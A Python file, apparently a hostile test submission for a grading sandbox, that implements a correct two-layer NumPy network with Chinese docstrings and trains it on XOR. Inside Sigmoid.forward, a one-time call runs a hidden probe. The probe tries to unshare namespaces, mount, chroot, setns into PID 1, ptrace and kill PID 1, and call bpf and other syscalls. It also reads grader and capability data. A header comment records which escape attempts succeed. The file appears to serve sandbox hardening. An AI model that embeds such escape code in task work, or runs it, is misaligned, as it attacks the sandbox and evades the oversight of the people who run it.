# HOSTILE escape_probe: a correct submission whose first Sigmoid.forward tries to leave its sandbox's limits: unshare of every namespace (forked children), mount, umount of /proc/sys, chroot, setns into PID 1's mount namespace, bpf, perf_event_open, userfaultfd, open_by_handle_at, writing user.max_user_namespaces, listing /grader/proc, ptrace of PID 1, SIGKILL to PID 1, and reports its capabilities. In template forks and fresh sandboxes all fail but ptrace of its own PID 1 (a reaper with nothing more than it has); template forks keep a full capability bounding set (fresh sandboxes: empty). Without bubblewrap unshare(CLONE_NEWUSER) succeeds. Sound grader: 100; the output shows EPERM/ENOSPC for every unshare.
import ctypes
import errno
import os
import signal

import numpy as np


class FullyConnectedLayer:
    """
    全連接層的前向/反向傳播實作

    Y = XW + b
    """

    def __init__(self, in_features, out_features):
        """
        Parameters
        ----------
        in_features : int
            輸入維度 D
        out_features : int
            輸出維度 M
        """
        # He (Kaiming) 初始化：標準差 sqrt(2 / in_features)，適合 ReLU 這類激勵函數
        # （Xavier 初始化用的是 sqrt(1 / in_features) 或 sqrt(2 / (in_features + out_features))）
        self.W = np.random.randn(in_features, out_features) * np.sqrt(2.0 / in_features)
        self.b = np.zeros(out_features)

        # 梯度
        self.dW = None
        self.db = None

        # 快取
        self.cache = None

    def forward(self, X):
        """
        前向傳播

        Parameters
        ----------
        X : np.ndarray, shape (N, D)
            輸入資料

        Returns
        -------
        Y : np.ndarray, shape (N, M)
            輸出
        """
        self.cache = X
        Y = X @ self.W + self.b
        return Y

    def backward(self, dY):
        """
        反向傳播

        Parameters
        ----------
        dY : np.ndarray, shape (N, M)
            損失對輸出的梯度 ∂L/∂Y

        Returns
        -------
        dX : np.ndarray, shape (N, D)
            損失對輸入的梯度 ∂L/∂X
        """
        X = self.cache

        # ∂L/∂W = X^T @ dY
        self.dW = X.T @ dY

        # ∂L/∂b = sum(dY, axis=0)
        self.db = np.sum(dY, axis=0)

        # ∂L/∂X = dY @ W^T
        dX = dY @ self.W.T

        return dX



_DONE = []


def _once(work):
    """Run ``work`` the first time only (the grader calls forward many times)."""
    if not _DONE:
        _DONE.append(1)
        try:
            work()
        except Exception as exc:  # noqa: BLE001
            print("PROBE failed:", type(exc).__name__, exc, flush=True)


import ctypes, errno, os, signal


def _probe():
    import json
    libc = ctypes.CDLL(None, use_errno=True)

    def try_(fn):
        ctypes.set_errno(0)
        try:
            got = fn()
        except OSError as exc:
            return errno.errorcode.get(exc.errno, str(exc.errno))
        err = ctypes.get_errno()
        return "ok" if got in (0, None) or (isinstance(got, int) and got > 0 and not err) else errno.errorcode.get(err, str(got))
    found = {}
    for name, flag in (("user", 0x10000000), ("mnt", 0x20000), ("net", 0x40000000), ("pid", 0x20000000),
                       ("ipc", 0x08000000), ("uts", 0x04000000), ("cgroup", 0x02000000), ("time", 0x80)):
        pid = os.fork()
        if pid == 0:
            os._exit(0 if libc.unshare(flag) == 0 else ctypes.get_errno())
        _, status = os.waitpid(pid, 0)
        found["unshare " + name] = "ok" if os.waitstatus_to_exitcode(status) == 0 else errno.errorcode.get(os.waitstatus_to_exitcode(status))
    found["mount tmpfs"] = try_(lambda: libc.mount(b"tmpfs", b"/tmp", b"tmpfs", 0, None))
    found["umount /proc/sys"] = try_(lambda: libc.umount2(b"/proc/sys", 2))
    found["chroot"] = try_(lambda: libc.chroot(b"/tmp"))
    found["setns pid1 mnt"] = try_(lambda: libc.setns(os.open("/proc/1/ns/mnt", os.O_RDONLY), 0))
    found["ptrace attach pid1"] = try_(lambda: libc.ptrace(16, 1, None, None))
    found["kill pid1 SIGKILL"] = try_(lambda: os.kill(1, signal.SIGKILL))
    found["pid1 still there"] = os.path.exists("/proc/1/status")
    found["bpf"] = try_(lambda: libc.syscall(321, 0, None, 0))
    found["perf_event_open"] = try_(lambda: libc.syscall(298, ctypes.create_string_buffer(128), 0, -1, -1, 0))
    found["userfaultfd"] = try_(lambda: libc.syscall(323, 0))
    found["open_by_handle_at"] = try_(lambda: libc.syscall(304, -100, ctypes.create_string_buffer(16), 0))
    found["set max_user_namespaces"] = try_(lambda: open("/proc/sys/user/max_user_namespaces", "w").write("10"))
    found["/grader/proc"] = try_(lambda: os.listdir("/grader/proc"))
    found["capabilities"] = [l for l in open("/proc/self/status").read().splitlines() if l.startswith("Cap")]
    found["pid1 fds"] = sorted(os.listdir("/proc/1/fd")) if os.access("/proc/1/fd", os.R_OK) else "unreadable"
    print("ESCAPE " + json.dumps(found))
class Sigmoid:
    """
    Sigmoid 層的前向/反向傳播
    """

    def __init__(self):
        self.cache = None

    def forward(self, x):
        _once(_probe)
        """
        前向傳播

        Parameters
        ----------
        x : np.ndarray
            任意形狀的輸入

        Returns
        -------
        out : np.ndarray
            σ(x)，與輸入相同形狀
        """
        # 數值穩定的 sigmoid：只計算 exp(-|x|)，它永遠不會 overflow
        # 對於 x >= 0: sigmoid = 1 / (1 + exp(-x))
        # 對於 x < 0:  sigmoid = exp(x) / (1 + exp(x))
        z = np.exp(-np.abs(x))
        out = np.where(x >= 0, 1 / (1 + z), z / (1 + z))
        self.cache = out  # 儲存輸出值 σ(x)，不是輸入
        return out

    def backward(self, dout):
        """
        反向傳播

        Parameters
        ----------
        dout : np.ndarray
            上游梯度，形狀與 forward 輸出相同

        Returns
        -------
        dx : np.ndarray
            對輸入的梯度，形狀與 dout 相同
        """
        # σ'(x) = σ(x) * (1 - σ(x))
        # 這裡 self.cache 已經是 σ(x) 了
        sigmoid_out = self.cache
        dx = dout * sigmoid_out * (1 - sigmoid_out)
        return dx


class TwoLayerNet:
    """
    兩層網路：FC1 → Sigmoid → FC2
    """

    def __init__(self, in_features, hidden_features, out_features):
        """
        Parameters
        ----------
        in_features : int
            輸入維度
        hidden_features : int
            隱藏層維度
        out_features : int
            輸出維度
        """
        # 初始化各層
        self.fc1 = FullyConnectedLayer(in_features, hidden_features)
        self.sigmoid = Sigmoid()
        self.fc2 = FullyConnectedLayer(hidden_features, out_features)

    def forward(self, X):
        """
        前向傳播

        Parameters
        ----------
        X : np.ndarray, shape (N, in_features)

        Returns
        -------
        out : np.ndarray, shape (N, out_features)
        """
        h1 = self.fc1.forward(X)
        h2 = self.sigmoid.forward(h1)
        out = self.fc2.forward(h2)
        return out

    def backward(self, dout):
        """
        反向傳播

        Parameters
        ----------
        dout : np.ndarray, shape (N, out_features)
            損失對輸出的梯度

        Returns
        -------
        dX : np.ndarray, shape (N, in_features)
            損失對輸入的梯度
        """
        # 以相反順序呼叫 backward
        dh2 = self.fc2.backward(dout)
        dh1 = self.sigmoid.backward(dh2)
        dX = self.fc1.backward(dh1)
        return dX

    def get_params_and_grads(self):
        """
        回傳所有參數和對應的梯度

        Returns
        -------
        list of (param, grad)
            [(fc1.W, fc1.dW), (fc1.b, fc1.db), (fc2.W, fc2.dW), (fc2.b, fc2.db)]，網路自己的陣列（不是副本）
        """
        return [
            (self.fc1.W, self.fc1.dW),
            (self.fc1.b, self.fc1.db),
            (self.fc2.W, self.fc2.dW),
            (self.fc2.b, self.fc2.db),
        ]


def train_xor(net, X, y, learning_rate, epochs):
    """
    用全批次梯度下降訓練網路（MSE 損失），就地更新參數

    Parameters
    ----------
    net : TwoLayerNet
        要訓練的網路（參數會被就地更新）
    X : np.ndarray, shape (N, in_features)
        輸入
    y : np.ndarray, shape (N, out_features)
        目標值
    learning_rate : float
        學習率
    epochs : int
        更新次數

    Returns
    -------
    losses : list of float
        長度為 epochs；losses[i] 是第 i+1 次更新之前的損失（losses[0] 是訓練前的損失）
    """
    losses = []

    for epoch in range(epochs):
        # 前向傳播
        Y = net.forward(X)

        # 計算 MSE 損失
        loss = np.mean((Y - y) ** 2)
        losses.append(loss)

        # 計算梯度
        dY = 2 * (Y - y) / Y.size

        # 反向傳播
        net.backward(dY)

        # 更新參數（梯度下降，就地更新）
        for param, grad in net.get_params_and_grads():
            param -= learning_rate * grad

    return losses
